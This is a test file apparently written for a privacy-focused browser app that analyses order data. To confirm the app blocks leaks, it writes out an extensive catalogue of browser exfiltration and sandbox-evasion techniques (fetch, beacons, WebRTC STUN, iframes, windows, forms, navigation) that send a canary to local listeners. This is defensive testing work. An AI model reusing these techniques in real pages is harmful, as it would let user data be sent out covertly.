import type { Page, Worker } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { SQL_WAYS } from '../../src/engine/sql-leaks'
import { OTHER_WAYS, PAGE_WAYS, WORKER_WAYS } from '../../src/engine/ways-out'
import { serveFolder } from '../support/serve-folder.mjs'
import { openListeners, type Listeners } from './listeners'
import { ordersFile } from './orders-file'
import { chooseFiles, exportJson, openBrowser, openPage, settled } from './page'

const CANARY = 'canary7f3a9'

let outside: Listeners
let host: Awaited<ReturnType<typeof serveFolder>>
const asked: string[] = []

beforeAll(async () => {
  outside = await openListeners()
  host = await serveFolder('dist', { path: '/some/where/', onRequest: (url) => asked.push(url) })
})

afterAll(async () => {
  await host?.close()
  await outside?.close()
})

/** Every way to send that script has, tried from the page. Errors are expected; what counts is what the listeners hear. */
async function sendFromPage(page: Page, address: string, stun: string): Promise<void> {
  await page.evaluate(
    async ([address, stun]) => {
      const attempts: (() => unknown)[] = [
        () => fetch(address, { mode: 'no-cors', method: 'POST', body: address }),
        () => fetch(address, { keepalive: true, mode: 'no-cors' }),
        () => {
          const request = new XMLHttpRequest()
          request.open('GET', address)
          request.send()
        },
        () => new WebSocket(address.replace('http', 'ws')),
        () => new EventSource(address),
        () => navigator.sendBeacon(address, address),
        () => Object.assign(new Image(), { src: address }),
        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address })),
        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: address })),
        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'manifest', href: address })),
        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'icon', href: address })),
        () => document.head.append(Object.assign(document.createElement('script'), { src: address })),
        () => import(/* @vite-ignore */ address),
        () => new FontFace('elsewhere', `url(${address})`).load(),
        () => document.body.style.setProperty('background-image', `url(${address})`),
        () => document.body.append(Object.assign(document.createElement('audio'), { src: address, autoplay: true })),
        () => document.body.append(Object.assign(document.createElement('object'), { data: address })),
        () => new Worker(address),
        () => new Worker(URL.createObjectURL(new Blob([`fetch('${address}'); importScripts('${address}')`]))),
        async () => {
          const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] })
          connection.createDataChannel('out')
          await connection.setLocalDescription(await connection.createOffer())
        },
      ]
      for (const attempt of attempts) {
        try {
          Promise.resolve(attempt()).catch(() => {})
        } catch {
          // Refused at once.
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 1500))
    },
    [address, stun] as const,
  )
}

/** What hostile script would think of next: another realm that has WebRTC, another window, and leaving. Each alone, after a press of the mouse. */
const EVASIONS: Readonly<Record<string, string>> = {
  'a frame': 'append(document.createElement("iframe")); call(window[0])',
  'a frame by its qualified name': 'append(document.createElementNS("http://www.w3.org/1999/xhtml", "x:iframe")); call(window[0])',
  'a name that is another when it is read again': `
    let reads = 0
    append(document.createElement({ toString: () => (reads++ ? "iframe" : "div") }))
    call(window[0])`,
  'a frameset': 'const set = document.createElement("frameset"); set.append(document.createElement("frame")); append(set); call(window[0])',
  'a frame from another document': `
    append(document.implementation.createDocument("http://www.w3.org/1999/xhtml", "iframe").documentElement)
    const connection = new window[0].RTCPeerConnection({ iceServers: [{ urls: stun }], iceCandidatePoolSize: 4 })
    connection.createDataChannel("out")
    connection.setLocalDescription()
    for (const from = performance.now(); performance.now() < from + 300; );`,
  'an element that extends a frame': `
    class Own extends HTMLIFrameElement {}
    customElements.define("own-frame", Own, { extends: "iframe" })
    append(new Own())
    call(window[0])`,
  'a frame that a style sheet makes': 'new XSLTProcessor()',
  'markup that is inserted': `
    document.body.contentEditable = "true"
    document.body.focus()
    document.execCommand("insertHTML", false, "<iframe></iframe>")
    call(window[0])`,
  'markup in a fragment': 'append(document.createRange().createContextualFragment("<iframe></iframe>")); call(window[0])',
  'an object': 'const made = document.createElement("object"); made.type = "text/html"; append(made); call(window[0])',
  'a shadow tree': 'document.createElement("div").attachShadow({ mode: "closed" })',
  'a window': 'call(window.open("about:blank"))',
  'a window with the address': 'window.open(address)',
  'this window by its name': 'window.open(address, "_self")',
  'a picture in a picture': 'documentPictureInPicture.requestWindow().then(call)',
  'going there': 'location.href = address',
  'going there in place': 'location.replace(address)',
  'going there by the navigation itself': 'navigation.navigate(address)',
  'a refresh': 'append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: "0; url=" + address }))',
  'a link': 'link({ href: address }).click()',
  'a link into a new window': 'link({ href: address, target: "_blank" }).click()',
  'a press that is made': 'link({ href: address, target: "_blank" }).dispatchEvent(new MouseEvent("click"))',
  'a press in an image': `
    const ns = "http://www.w3.org/2000/svg"
    const image = document.createElementNS(ns, "svg")
    const inside = document.createElementNS(ns, "a")
    inside.setAttribute("href", address)
    image.append(inside)
    append(image)
    inside.dispatchEvent(new MouseEvent("click", { bubbles: true }))`,
  'a download': 'link({ href: address, download: "x" }).click()',
  'a ping': 'const pinging = link({ href: "#/privacy", ping: address }); append(pinging); pinging.click()',
  'a form': 'const form = Object.assign(document.createElement("form"), { action: address }); append(form); form.submit()',
  'a form that asks': `
    const asking = Object.assign(document.createElement("form"), { action: address, target: "_blank" })
    append(asking)
    asking.requestSubmit()`,
  'a mail': 'location.href = "mailto:someone@invalid.invalid?body=" + address',
  'the address, for the next reload': 'history.pushState(null, "", "/canary7f3a9")',
  'its own host': 'location.href = location.href.split("#")[0] + "canary7f3a9"',
  'a query to its own host': 'location.search = "canary7f3a9"',
  'a hint': 'append(Object.assign(document.createElement("link"), { rel: "preconnect", href: address }))',
  'a shared worker': 'new SharedWorker(URL.createObjectURL(new Blob(["fetch(\\"" + address + "\\").catch(() => {})"])))',
}

async function evade(page: Page, code: string, address: string, stun: string): Promise<void> {
  await page.mouse.click(720, 4)
  const means = `
    const address = ${JSON.stringify(address)}
    const stun = ${JSON.stringify(stun)}
    const append = (node) => document.body.append(node)
    const link = (properties) => Object.assign(document.createElement('a'), properties)
    const call = (realm) => {
      const connection = new realm.RTCPeerConnection({ iceServers: [{ urls: stun }] })
      connection.createDataChannel('out')
      connection.setLocalDescription()
    }`
  await page.evaluate(`(() => { ${means}; try { ${code} } catch {} })()`)
  await page.waitForTimeout(150)
}

/** The same from inside every worker. Returns the workers' names. */
async function sendFromWorkers(workers: readonly Worker[], address: string): Promise<string[]> {
  const names: string[] = []
  for (const worker of workers) {
    names.push(await worker.evaluate(() => self.name))
    await worker.evaluate(async (address) => {
      const attempts: (() => unknown)[] = [
        () => fetch(address, { mode: 'no-cors' }),
        () => {
          const request = new XMLHttpRequest()
          request.open('GET', address, false)
          request.send()
        },
        () => new WebSocket(address.replace('http', 'ws')),
        () => new EventSource(address),
        () => (self as unknown as { importScripts(url: string): void }).importScripts(address),
        () => import(/* @vite-ignore */ address),
        () => new Worker(address),
        // The means that the prelude took away, from a worker that never had a prelude.
        () => new Worker(URL.createObjectURL(new Blob([`try { fetch('${address}').catch(() => {}) } catch {}`]))),
        () => new Worker(URL.createObjectURL(new Blob([`try { new WebSocket('${address}'.replace('http', 'ws')) } catch {}`]))),
        () => new Worker(URL.createObjectURL(new Blob([`try { importScripts('${address}') } catch {}`]))),
      ]
      for (const attempt of attempts) {
        try {
          Promise.resolve(attempt()).catch(() => {})
        } catch {
          // Refused at once.
        }
      }
      await new Promise((resolve) => setTimeout(resolve, 500))
    }, address)
  }
  return names.sort()
}

test('the listeners hear a page that may send: http, WebSocket, beacon, image and STUN', async () => {
  const control = await openListeners()
  const page = await (await openBrowser()).newPage()
  await page.goto(host.url.replace('some/where/', ''))
  await sendFromPage(page, `${control.http}${CANARY}`, control.stun)
  expect(control.heard.some((said) => said.includes(CANARY))).toBe(true)
  expect(control.heard.some((said) => said.includes('Upgrade: websocket'))).toBe(true)
  expect(control.heard.some((said) => said.startsWith('udp'))).toBe(true)
  await page.close()
  await control.close()
})

test('a whole session, with script that tries every way out of the page and its workers, reaches nobody', async () => {
  asked.length = 0
  const page = await (await openBrowser()).newPage({ acceptDownloads: true })
  const visited: string[] = []
  page.on('framenavigated', (frame) => visited.push(frame.url()))
  await page.goto(host.url)
  await chooseFiles(page, [ordersFile(`${CANARY}.csv`, 2000, 300, CANARY)])
  const beforeData = [...asked]
  for (const route of ['segments', 'overview', 'sources', 'privacy']) {
    await page.goto(`${host.url}#/${route}`)
    await settled(page)
  }
  await page.goto(`${host.url}#/segments`)
  await settled(page)
  expect(JSON.stringify((await exportJson(page)).tables)).toContain(CANARY)

  const workers = page.workers()
  for (const address of [`${outside.http}${CANARY}`, `${host.url}${CANARY}`]) {
    expect(await sendFromWorkers(workers, address)).toEqual(['engine', 'workbench'])
    await sendFromPage(page, address, outside.stun)
  }
  for (const code of Object.values(EVASIONS)) {
    await evade(page, code, `${outside.http}${CANARY}`, outside.stun)
  }
  await page.waitForTimeout(1000)
  expect(outside.heard).toEqual([])
  expect(page.context().pages()).toHaveLength(1)
  expect(asked).toEqual(beforeData)
  expect(asked.filter((url) => url.includes(CANARY))).toEqual([])
  expect(visited.filter((url) => url.includes(CANARY))).toEqual([])
  await page.close()
})

test('a frame that comes about in a way that was not thought of is gone before anything can be said from it', async () => {
  const page = await (await openBrowser()).newPage()
  await page.goto(host.url)
  const session = await page.context().newCDPSession(page)
  const { frameTree } = await session.send('Page.getFrameTree')
  // Script of an extension has the page's elements, and means that the page did not replace.
  const { executionContextId: contextId } = await session.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id })
  const expression = `(() => {
    const frame = document.createElement('iframe')
    document.body.append(frame)
    return frame.isConnected
  })()`
  expect((await session.send('Runtime.evaluate', { expression, contextId })).result.value).toBe(false)
  await page.close()
})

test('what the privacy page says to be shut only against foreign script is not called closed: such script gets out', async () => {
  const control = await openListeners()
  const page = await (await openBrowser()).newPage()
  await page.goto(host.url)
  const changed = `
    const changing = link({ href: '#/' })
    changing.onclick = () => Object.assign(changing, { href: address, target: '_blank' })
    append(changing)
    changing.click()`
  await evade(page, changed, `${control.http}${CANARY}`, control.stun)
  await expect.poll(() => control.heard.some((said) => said.includes(CANARY))).toBe(true)
  expect(OTHER_WAYS[0]).toMatchObject({ way: 'a link that you press, into a new window', standing: 'closed while no foreign script runs' })
  await page.context().close()
  await control.close()
})

test('every closed way that can be tried is refused in the page, on the word of the browser', async () => {
  const page = await openPage('#/privacy')
  await page.getByRole('button', { name: 'Try to send data out' }).click()
  await page.getByText(/ways were tried just now, and each was refused/).waitFor()
  const closed = [...PAGE_WAYS, ...WORKER_WAYS, ...SQL_WAYS]
  expect(closed.every(({ standing }) => standing === 'closed')).toBe(true)
  await page.getByText(`${closed.length} ways were tried just now`).waitFor()
  await page.context().close()
})
